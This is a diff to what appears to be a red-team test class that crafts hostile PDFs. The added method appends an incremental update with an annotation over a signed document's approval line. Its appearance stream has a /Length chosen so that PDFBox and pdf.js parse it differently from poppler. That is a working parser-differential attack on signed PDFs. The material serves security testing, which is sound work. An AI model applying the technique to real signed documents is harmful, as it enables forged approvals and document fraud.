@@ -200,4 +200,40 @@ final class RedTeamEighth {
         int at = text.lastIndexOf("startxref\n") + "startxref\n".length();
         return PdfCrafting.overwrite(pdf, at, "9");
     }
+
+    /**
+     * A square comment over the approval line whose appearance stream (unfiltered) says "q Q" up to its first
+     * "endstream", and whose /Length reaches past that keyword over {@code ink} written after the object's
+     * "endobj": PDFBox and pdf.js end a stream whose /Length is not followed by "endstream" at the first "endstream";
+     * poppler reads /Length bytes.
+     */
+    static byte[] commentWithLongLength(byte[] sealed, String ink) {
+        HostileFiles.Appender update = new HostileFiles.Appender(sealed);
+        long font = update.allocate();
+        long appearance = update.allocate();
+        long annotation = update.allocate();
+        update.object(font, HostileFiles.Appender.text("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"));
+        String data = "q Q";
+        String past = "\nendstream\nendobj\n" + ink + "\n";
+        // the Appender writes "\nendobj\n" after the body: the body ends with the first "endstream"
+        update.object(appearance, HostileFiles.Appender.text("<< /Type /XObject /Subtype /Form /BBox [0 0 300 40] "
+                + "/Resources << /Font << /F1 " + font + " 0 R >> >> /Length " + (data.length() + past.length())
+                + " >>\nstream\n" + data + "\nendstream\nendobj\n" + ink + "\n%"));
+        update.object(annotation, HostileFiles.Appender.text("<< /Type /Annot /Subtype /Square /Rect [66 690 366 730] "
+                + "/F 4 /C [1 1 1] /Border [0 0 0] /AP << /N " + appearance + " 0 R >> >>"));
+        try (var document = org.apache.pdfbox.Loader.loadPDF(sealed)) {
+            COSDictionary page = document.getPage(0).getCOSObject();
+            StringBuilder annots = new StringBuilder("[");
+            var existing = page.getCOSArray(COSName.ANNOTS);
+            for (int i = 0; existing != null && i < existing.size(); i++) {
+                annots.append(HostileFiles.Cos.write(existing.get(i), Map.of())).append(' ');
+            }
+            annots.append(annotation).append(" 0 R]");
+            update.object(page.getKey().getNumber(), HostileFiles.Appender.text(HostileFiles.Cos.write(page,
+                    Map.of(COSName.ANNOTS, annots.toString()))));
+        } catch (java.io.IOException e) {
+            throw new java.io.UncheckedIOException(e);
+        }
+        return update.commit().bytes();
+    }
 }
